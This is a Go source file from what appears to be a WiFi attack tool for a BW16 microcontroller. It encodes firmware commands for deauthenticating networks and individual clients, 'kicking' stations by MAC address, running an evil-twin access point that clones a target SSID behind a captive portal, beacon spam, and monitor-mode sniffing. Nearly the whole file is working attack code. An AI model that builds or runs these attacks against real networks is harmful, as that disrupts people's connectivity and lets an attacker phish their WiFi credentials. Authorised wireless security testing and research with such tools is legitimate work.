package encoder

import (
	"fmt"
	"strconv"
	"time"

	"github.com/vitaminmoo/bw16-tool/internal/firmware"
	"github.com/vitaminmoo/bw16-tool/internal/protocol"
)

// Target identifies a network by its peripheral-assigned id.
type Target struct {
	ID      int
	SSID    string
	Channel int
}

// AttackConfig is the attack parameter set. The modern dialect passes it
// positionally; legacy firmware needs it configured before each attack.
type AttackConfig struct {
	Reason int
	Portal int
	MAC    string // source MAC for legacy firmware
}

// APConfig describes an access point to start.
type APConfig struct {
	SSID     string
	Password string
	Channel  int
	Portal   int
}

// BeaconMode selects the beacon spam payload.
type BeaconMode int

const (
	BeaconCustom BeaconMode = iota
	BeaconRandom
	BeaconRickroll
)

var beaconNames = []string{"custom", "random", "rickroll"}

func (m BeaconMode) String() string {
	if m < 0 || int(m) >= len(beaconNames) {
		return fmt.Sprintf("beacon(%d)", int(m))
	}
	return beaconNames[m]
}

// ParseBeaconMode accepts the names printed by String.
func ParseBeaconMode(s string) (BeaconMode, error) {
	for i, n := range beaconNames {
		if s == n {
			return BeaconMode(i), nil
		}
	}
	return 0, fmt.Errorf("unknown beacon mode %q: %w", s, ErrInvalidArgument)
}

// EvilTwinFallbackSSID is cloned when the target hides its SSID.
const EvilTwinFallbackSSID = "Free_WiFi"

// Scan starts a WiFi scan. A zero duration leaves the firmware default.
func (e *Encoder) Scan(d time.Duration) ([]Command, error) {
	if err := e.require("scan", firmware.CapWiFiScan); err != nil {
		return nil, err
	}
	if !e.Modern() {
		return []Command{line("SCAN", 0)}, nil
	}
	s := "s"
	if d > 0 {
		s += strconv.FormatInt(d.Milliseconds(), 10)
	}
	return []Command{ledEffect(protocol.LEDWiFi), framed(s, 0)}, nil
}

// ListNetworks asks for the scan results.
func (e *Encoder) ListNetworks() []Command {
	if e.Modern() {
		return []Command{framed("g", 0)}
	}
	return []Command{line("LIST", 0)}
}

// ListClients asks for the stations seen so far.
func (e *Encoder) ListClients() ([]Command, error) {
	if err := e.require("list clients", firmware.CapClientDetection); err != nil {
		return nil, err
	}
	if e.Modern() {
		return []Command{framed("c", 0)}, nil
	}
	return []Command{line("CLIENTS", 0)}, nil
}

// attackConfig is the legacy preamble: source MAC, reason, portal.
func attackConfig(cfg AttackConfig) []Command {
	return []Command{
		line("APMAC "+cfg.MAC, configSettle),
		line("REASON "+strconv.Itoa(cfg.Reason), configSettle),
		line("PORTAL "+strconv.Itoa(cfg.Portal), configSettle),
	}
}

func checkReason(r int) error {
	if r < 0 || r >= len(protocol.DeauthReasons) {
		return fmt.Errorf("deauth reason %d: %w", r, ErrInvalidArgument)
	}
	return nil
}

// Deauth starts a broadcast deauth against a network.
func (e *Encoder) Deauth(t Target, cfg AttackConfig) ([]Command, error) {
	if err := e.require("deauth", firmware.CapBroadcastDeauth); err != nil {
		return nil, err
	}
	if err := checkReason(cfg.Reason); err != nil {
		return nil, err
	}
	if !e.Modern() {
		return append(attackConfig(cfg), line(fmt.Sprintf("DEAUTH %d", t.ID), 0)), nil
	}
	d := fmt.Sprintf("d%d", t.ID)
	if cfg.Reason != protocol.DefaultReason {
		d += fmt.Sprintf("-%d", cfg.Reason)
	}
	return []Command{ledEffect(protocol.LEDAttack), framed(d, 0)}, nil
}

// DeauthClient deauths one station of a network.
func (e *Encoder) DeauthClient(t Target, mac string, cfg AttackConfig) ([]Command, error) {
	if err := e.require("targeted deauth", firmware.CapTargetedDeauth); err != nil {
		return nil, err
	}
	if err := checkReason(cfg.Reason); err != nil {
		return nil, err
	}
	// No stock legacy profile has the capability; a capability set that
	// grants it still gets the line dialect.
	if !e.Modern() {
		return append(attackConfig(cfg), line(fmt.Sprintf("DEAUTH %d %s", t.ID, mac), 0)), nil
	}
	return []Command{framed(fmt.Sprintf("d%d-%d-%s", t.ID, cfg.Reason, mac), 0)}, nil
}

// StopDeauth stops deauth. Modern firmware stops all deauth at once.
func (e *Encoder) StopDeauth(t Target) []Command {
	if e.Modern() {
		return []Command{framed("ds", 0), ledReady()}
	}
	return []Command{line(fmt.Sprintf("STOP %d", t.ID), 0)}
}

// Kick deauths a station wherever it is associated.
func (e *Encoder) Kick(mac string, reason int) ([]Command, error) {
	if err := e.require("kick", firmware.CapTargetedDeauth); err != nil {
		return nil, err
	}
	if err := e.modernOnly("kick", firmware.CapTargetedDeauth); err != nil {
		return nil, err
	}
	if !protocol.ValidMAC(mac) {
		return nil, fmt.Errorf("kick: mac %q: %w", mac, ErrInvalidArgument)
	}
	if err := checkReason(reason); err != nil {
		return nil, err
	}
	k := "k" + mac
	if reason != protocol.DefaultReason {
		k += fmt.Sprintf("-%d", reason)
	}
	return []Command{ledEffect(protocol.LEDAttack), framed(k, kickSettle), ledReady()}, nil
}

func portalOrDefault(p int) int {
	if p == 0 {
		return 1
	}
	return p
}

func checkPortal(p int) error {
	if p < 0 || p >= len(protocol.Portals) {
		return fmt.Errorf("portal %d: %w", p, ErrInvalidArgument)
	}
	return nil
}

// EvilTwin clones a network's SSID and channel behind a captive portal.
func (e *Encoder) EvilTwin(t Target, cfg AttackConfig) ([]Command, error) {
	if err := e.require("evil twin", firmware.CapEvilTwin); err != nil {
		return nil, err
	}
	if err := checkPortal(cfg.Portal); err != nil {
		return nil, err
	}
	if !e.Modern() {
		return append(attackConfig(cfg), line(fmt.Sprintf("EVIL %d", t.ID), 0)), nil
	}
	ssid := t.SSID
	if ssid == "" {
		ssid = EvilTwinFallbackSSID
	}
	return []Command{
		ledEffect(protocol.LEDAttack),
		framed(fmt.Sprintf("a%s||%d", ssid, t.Channel), configSettle),
		framed(fmt.Sprintf("w%d", portalOrDefault(cfg.Portal)), 0),
	}, nil
}

// CreateAP starts an access point of our own.
func (e *Encoder) CreateAP(ap APConfig, mac string) ([]Command, error) {
	if err := e.require("create ap", firmware.CapEvilTwin); err != nil {
		return nil, err
	}
	if ap.SSID == "" || len(ap.SSID) > protocol.MaxSSIDLen {
		return nil, fmt.Errorf("ssid %q: %w", ap.SSID, ErrInvalidArgument)
	}
	if !protocol.ValidChannel(ap.Channel) {
		return nil, fmt.Errorf("channel %d: %w", ap.Channel, ErrInvalidArgument)
	}
	if err := checkPortal(ap.Portal); err != nil {
		return nil, err
	}
	if e.Modern() {
		return []Command{
			ledEffect(protocol.LEDAttack),
			framed(fmt.Sprintf("a%s|%s|%d", ap.SSID, ap.Password, ap.Channel), apSettle),
			framed(fmt.Sprintf("w%d", portalOrDefault(ap.Portal)), 0),
		}, nil
	}
	var out []Command
	if ap.Password != "" {
		out = append(out, line("PASSWORD "+ap.Password, configSettle))
	}
	return append(out,
		line("APMAC "+mac, configSettle),
		line(fmt.Sprintf("CHANNEL %d", ap.Channel), configSettle),
		line(fmt.Sprintf("PORTAL %d", ap.Portal), configSettle),
		line("APSTART "+ap.SSID, 0),
	), nil
}

// Beacon starts beacon spam. Custom mode needs an SSID.
func (e *Encoder) Beacon(m BeaconMode, ssid string) ([]Command, error) {
	if err := e.require("beacon", firmware.CapBeaconSpam); err != nil {
		return nil, err
	}
	var modern, legacy string
	switch m {
	case BeaconRandom:
		modern, legacy = "br", "RANDOM"
	case BeaconRickroll:
		modern, legacy = "bk", "RICKROLL"
	case BeaconCustom:
		if ssid == "" {
			return nil, fmt.Errorf("custom beacon needs an ssid: %w", ErrInvalidArgument)
		}
		modern, legacy = "bc"+ssid, "BSSID "+ssid
	default:
		return nil, fmt.Errorf("beacon mode %d: %w", m, ErrInvalidArgument)
	}
	if e.Modern() {
		return []Command{framed(modern, 0)}, nil
	}
	return []Command{line(legacy, 0)}, nil
}

// StopBeacon stops beacon spam. Legacy firmware only has a global stop.
func (e *Encoder) StopBeacon() []Command {
	if e.Modern() {
		return []Command{framed("bs", 0)}
	}
	return []Command{line("STOP", 0)}
}

// Monitor turns monitor mode on or off.
func (e *Encoder) Monitor(on bool) ([]Command, error) {
	if err := e.require("monitor", firmware.CapMonitorMode); err != nil {
		return nil, err
	}
	switch {
	case e.Modern() && on:
		return []Command{ledEffect(protocol.LEDWiFi), framed("m1", 0)}, nil
	case e.Modern():
		return []Command{framed("m0", 0), ledReady()}, nil
	case on:
		return []Command{line("SNIFF", 0)}, nil
	default:
		return []Command{line("SNIFFOFF", 0)}, nil
	}
}
